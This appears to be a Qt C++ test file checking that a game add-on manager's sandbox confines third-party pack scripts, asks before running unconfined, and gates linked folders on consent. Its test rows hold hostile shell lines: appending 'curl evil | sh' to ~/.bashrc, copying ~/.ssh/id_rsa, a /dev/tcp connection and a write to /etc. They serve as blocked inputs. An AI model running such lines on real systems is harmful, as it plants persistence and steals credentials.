// A stranger's scripts, started by a tick, run in the sandbox: they change the pack, the prefix
// and the history folders the player allowed, and nothing else of the player's; what the
// sandbox stopped is told. Where the sandbox cannot start, the player is asked first. A pack's
// linked options and themes folders follow the same consent.
#include "app/MainFrm.h"
#include "common/TestFiles.h"
#include "common/TestTree.h"
#include "common/Waits.h"
#include "core/Common.h"
#include "history/InstallHistory.h"
#include "options/OptionNode.h"
#include "options/OptionTreeController.h"
#include "ini/IniFile.h"
#include "files/PackPermissions.h"
#include "launch/ScriptLauncher.h"

#include <QDirIterator>
#include <QLabel>
#include <QMessageBox>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTreeView>
#include <QtTest>

#include <memory>

using namespace testfiles;

class TestSandbox : public QObject
{
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<TMainForm> m_form;
    QByteArray m_path;
    QStringList m_boxes; // the texts of the message boxes the program showed

    QString at(const QString &name) const { return m_dir->filePath(name); }
    QString home() const { return at(S("home")); }
    QString pack() const { return at(S("pack")); }
    QString option() const { return pack() + S("/Options/Chat/Classic/"); }

    // Every path below @p root with its content, except below @p skip.
    static QStringList listing(const QString &root, const QStringList &skip)
    {
        QStringList all;
        QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot | QDir::System,
                        QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const QString path = it.next();
            if (std::none_of(skip.begin(), skip.end(),
                             [&](const QString &s) { return path.startsWith(s); }))
                all.append(path + S(" ") + QString::number(QFileInfo(path).permissions()) +
                           S(" ") + QString::fromLatin1(readAll(path).toHex()));
        }
        all.sort();
        return all;
    }

    void open()
    {
        m_form = std::make_unique<TMainForm>(pack() + S("/varimond"));
        m_form->CreateForms();
        QVERIFY(m_form->FormShow());
        m_form->ShowMainWindow();
        QVERIFY(QTest::qWaitForWindowExposed(m_form.get(), HangMs));
    }

    QString told() const
    {
        return m_form->findChild<QLabel *>(S("lblStatusLine"))->property("fullText").toString();
    }

    void tick()
    {
        OptionNode *node = FindNode(m_form->TreeController()->Tree(), S("Chat/Classic"));
        QVERIFY(node);
        m_form->findChild<QTreeView *>(S("TreeView1"))
            ->setCurrentIndex(m_form->TreeController()->IndexOf(node));
        m_form->ApplyChanges();
    }

    void writePack(const QByteArray &settings, const QByteArray &script)
    {
        QVERIFY(writeAll(pack() + S("/varimond.ini"),
                         "[Settings]\nCheckInterfaceMode=0\nPgmFirstRun=0\nHideShell=1\n" +
                             settings));
        QVERIFY(writeAll(option() + S("options.ini"),
                         "[RunMe]\nOptionRunMeFName=RunMe.sh\nOptionRunMe2FName=\n"
                         "[ProgramDelay]\nOptionProgramDelay=20\n[Mode]\nOptionMode=2\n"));
        QVERIFY(writeAll(option() + S("RunMe.sh"), "#!/bin/sh\n" + script));
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_path = qgetenv("PATH");
        // Message boxes are answered as soon as they show, their texts kept.
        auto *closer = new QTimer(this);
        connect(closer, &QTimer::timeout, this, [this] {
            if (auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget())) {
                m_boxes.append(box->text());
                box->reject();
            }
        });
        closer->start(50);
    }

    void init()
    {
        ProgramSettings = TProgramSettings{};
        m_boxes.clear();
        m_dir = std::make_unique<QTemporaryDir>();
        qputenv("HOME", QFile::encodeName(home()));
        // The player's own Varimond folders lie outside the home looked at.
        for (const char *name : {"XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_DATA_HOME",
                                 "XDG_CACHE_HOME"})
            qputenv(name, QFile::encodeName(at(S("config/") + QLatin1String(name))));
        qputenv("XDG_CONFIG_HOME", QFile::encodeName(at(S("config"))));
        qunsetenv("DISPLAY");
        QVERIFY(writeAll(home() + S("/.profile"), "profile\n"));
        QVERIFY(writeAll(home() + S("/.bashrc"), "bashrc\n"));
        QVERIFY(writeAll(home() + S("/.ssh/id_rsa"), "SECRET KEY\n"));
        QVERIFY(QFile::setPermissions(home() + S("/.ssh/id_rsa"),
                                      QFile::ReadOwner | QFile::WriteOwner));
        QVERIFY(writeAll(home() + S("/Documents/x"), "document\n"));
    }

    void cleanup()
    {
        m_form.reset();
        m_dir.reset();
        qputenv("PATH", m_path);
        QFile::remove(S("/etc/varimond-sandbox-test"));
        platform::setUnconfinedQuestionHandler({});
        platform::setFolderQuestionHandler({});
    }

    void hostileScript_data()
    {
        QTest::addColumn<QByteArray>("body"); // %PORT% is the test server's port
        QTest::addColumn<QString>("told");
        QTest::addColumn<QStringList>("landed"); // below the test's folder

        const QString ticked = S("Classic selected; RunMe.sh started");
        QTest::newRow("appends to ~/.bashrc")
            << QByteArray("echo 'curl evil | sh' >> \"$HOME/.bashrc\"\n")
            << S("RunMe.sh of Classic was kept from writing to ~/.bashrc: File > History shows "
                 "its output")
            << QStringList();
        QTest::newRow("copies the key into the pack")
            << QByteArray("cp \"$HOME/.ssh/id_rsa\" ./stolen\n")
            << S("RunMe.sh of Classic was kept from reading ~/.ssh/id_rsa: File > History "
                 "shows its output")
            << QStringList();
        QTest::newRow("connects to a local server")
            << QByteArray("bash -c 'echo hello > /dev/tcp/127.0.0.1/%PORT%'\n")
            << S("RunMe.sh of Classic was kept from reaching the network: File > History shows "
                 "its output")
            << QStringList();
        QTest::newRow("writes to /etc")
            << QByteArray("echo evil > /etc/varimond-sandbox-test\n")
            << S("RunMe.sh of Classic was kept from writing to /etc/varimond-sandbox-test: "
                 "File > History shows its output")
            << QStringList();
        QTest::newRow("writes the prefix and an allowed history folder")
            << QByteArray("echo game > \"$HOME/Games/daoc/drive_c/ui.txt\" &&\n"
                          "echo mods > \"$HOME/Mods/mod.txt\"\n")
            << ticked << QStringList{S("home/Games/daoc/drive_c/ui.txt"), S("home/Mods/mod.txt")};
    }

    void hostileScript()
    {
        QFETCH(QByteArray, body);
        QFETCH(QString, told);
        QFETCH(QStringList, landed);

        QTcpServer server;
        QVERIFY(server.listen(QHostAddress::LocalHost, 0));
        int connections = 0;
        connect(&server, &QTcpServer::newConnection, this, [&] {
            while (QTcpSocket *socket = server.nextPendingConnection()) {
                ++connections;
                socket->deleteLater();
            }
        });
        body.replace("%PORT%", QByteArray::number(server.serverPort()));

        const QString prefix = home() + S("/Games/daoc");
        QVERIFY(QDir().mkpath(prefix + S("/drive_c")));
        QVERIFY(writeAll(prefix + S("/system.reg"), "WINE REGISTRY Version 2\n"));
        qputenv("WINEPREFIX", QFile::encodeName(prefix));
        QVERIFY(QDir().mkpath(home() + S("/Mods")));
        writePack("[History]\nFolders=" + QFile::encodeName(home() + S("/Mods")) + "\n", body);
        // The player allowed the history folder outside the pack before.
        QVERIFY(writeAll(at(S("config/varimond/pack-permissions")),
                         "allow\t" + platform::PackPermissions::packKey(pack()) + "\t" +
                             QFile::encodeName(home() + S("/Mods")) + "\n"));

        const QStringList writable{pack(), prefix, home() + S("/Mods"), at(S("config"))};
        const QStringList homeBefore = listing(home(), writable);
        const QStringList outsideBefore = listing(m_dir->path(), writable + QStringList{home()});
        const QStringList etcBefore = QDir(S("/etc")).entryList(QDir::AllEntries | QDir::Hidden);

        open();
        int ended = 0;
        connect(&history::TheHistory(), &history::InstallHistory::installEnded, m_form.get(),
                [&ended] { ++ended; });
        tick();
        QTRY_COMPARE_WITH_TIMEOUT(ended, 1, HangMs);
        QCOMPARE(this->told(), told);
        m_form.reset();
        qunsetenv("WINEPREFIX");

        for (const QString &file : landed)
            QVERIFY2(QFileInfo::exists(at(file)), qPrintable(file));
        QCOMPARE(listing(home(), writable), homeBefore);
        QCOMPARE(listing(m_dir->path(), writable + QStringList{home()}), outsideBefore);
        QCOMPARE(QDir(S("/etc")).entryList(QDir::AllEntries | QDir::Hidden), etcBefore);
        QVERIFY(!QFileInfo::exists(option() + S("stolen")));
        QCOMPARE(connections, 0);
    }

    // Where the sandbox cannot start the player is asked: Cancel runs nothing and changes no
    // mode, Yes runs the script and is remembered for the pack.
    void fallbackQuestion()
    {
        const QString bin = at(S("bin"));
        QVERIFY(writeAll(bin + S("/bwrap"), "#!/bin/sh\nexit 1\n"));
        QVERIFY(QFile::setPermissions(bin + S("/bwrap"), QFile::ReadOwner | QFile::ExeOwner));
        qputenv("PATH", QFile::encodeName(bin) + ":/usr/bin:/bin");
        writePack({}, "echo ran > ran.txt\n");
        QStringList asked;
        bool yes = false;
        platform::setUnconfinedQuestionHandler([&](const platform::UnconfinedQuestion &q) {
            asked.append(q.text());
            return yes;
        });
        open();
        tick();
        QCOMPARE(asked.size(), 1);
        QVERIFY(asked.front().contains(QFileInfo(pack()).fileName()));
        QVERIFY(asked.front().contains(S("all your rights")));
        QVERIFY(readAll(option() + S("options.ini")).contains("OptionMode=2"));
        QVERIFY(!readAll(at(S("config/varimond/pack-permissions"))).contains("unconfined"));

        yes = true;
        tick();
        QCOMPARE(asked.size(), 2);
        QVERIFY(readAll(option() + S("options.ini")).contains("OptionMode=3"));
        QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(option() + S("ran.txt")), HangMs);
        tick(); // unticks, then ticks again without a question
        tick();
        QCOMPARE(asked.size(), 2);
    }

    // Folders of the player's own that the pack links to are used after one question, and the
    // settings stay as written; a link to the home folder, or by a name with a blank at its
    // end, is refused with a message that says so.
    void linkedFolders_data()
    {
        QTest::addColumn<QByteArray>("optionsDir");
        QTest::addColumn<QString>("link");   // in the pack
        QTest::addColumn<QString>("target"); // below the home folder; empty: the home itself
        QTest::addColumn<bool>("used");

        QTest::newRow("Options") << QByteArray("Options") << S("Options") << S("MyOptions") << true;
        QTest::newRow("UI Options") << QByteArray("UI Options") << S("UI Options")
                                    << S("MyOptions") << true;
        QTest::newRow("to the home folder")
            << QByteArray("Options") << S("Options") << QString() << false;
        QTest::newRow("trailing blank") << QByteArray("\"Options \"") << S("Options ")
                                        << S(".config") << false;
        QTest::newRow("no-break space") << QByteArray("Options\xc2\xa0") << S("Options\u00a0")
                                        << S(".config") << false;
    }

    void linkedFolders()
    {
        QFETCH(QByteArray, optionsDir);
        QFETCH(QString, link);
        QFETCH(QString, target);
        QFETCH(bool, used);

        const QString real = target.isEmpty() ? home() : home() + QLatin1Char('/') + target;
        QVERIFY(writeAll(real + S("/Chat/Classic/options.ini"),
                         "[RunMe]\nOptionRunMeFName=RunMe.sh\n[Mode]\nOptionMode=2\n"));
        QVERIFY(writeAll(real + S("/Chat/Classic/RunMe.sh"), "#!/bin/sh\necho ran > ran.txt\n"));
        QVERIFY(writeAll(home() + S("/MyThemes/Raid.ini"), "[Theme]\n"));
        QVERIFY(QDir().mkpath(pack()));
        QVERIFY(QFile::link(real, pack() + QLatin1Char('/') + link));
        QVERIFY(QFile::link(home() + S("/MyThemes"), pack() + S("/Themes")));
        const QByteArray settings = "[Settings]\nCheckInterfaceMode=0\nPgmFirstRun=1\n"
                                    "[OptionsDir]\nOptionsDir=" + optionsDir + "\n";
        QVERIFY(writeAll(pack() + S("/varimond.ini"), settings));
        QStringList asked;
        platform::setFolderQuestionHandler([&](const platform::FolderQuestion &q) {
            asked.append(q.text());
            return true;
        });
        const QStringList homeBefore = listing(home(), {home() + S("/MyThemes")});

        open();
        QCOMPARE(asked.size(), 1); // the themes folder, with the options folder when it is used
        QCOMPARE(asked.front().contains(home() + S("/MyOptions")), used);
        OptionNode *node = FindNode(m_form->TreeController()->Tree(), S("Chat/Classic"));
        QCOMPARE(node != nullptr, used);
        const QString box = m_boxes.join(QLatin1Char('\n'));
        if (used) {
            QVERIFY2(m_boxes.isEmpty(), qPrintable(box));
            tick();
            QVERIFY(readAll(real + S("/Chat/Classic/options.ini")).contains("OptionMode=3"));
            // Its script may write the folder the player allowed.
            QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(real + S("/Chat/Classic/ran.txt")), HangMs);
        } else {
            // Said as it is: the folder the value names is not read, whatever is used instead.
            QVERIFY2(box.contains(S("through a symbolic link it leads to ")) && box.contains(real),
                     qPrintable(box));
            QVERIFY2(!box.contains(QStringLiteral("\"%1\" is used instead").arg(link)),
                     qPrintable(box));
        }
        // The first run copied the player's themes into their own folder.
        QVERIFY(QFileInfo::exists(at(S("config/varimond/Themes/Raid.ini"))));
        const auto setting = [this] {
            return platform::IniFile::readString(pack() + S("/varimond.ini"), S("OptionsDir"),
                                                 S("OptionsDir"), {});
        };
        const QString before = setting();
        m_form->close();
        m_form.reset();
        QCOMPARE(setting(), before);
        if (!used)
            QCOMPARE(listing(home(), {home() + S("/MyThemes")}), homeBefore);
    }
};

QTEST_MAIN(TestSandbox)
#include "tst_sandbox.moc"
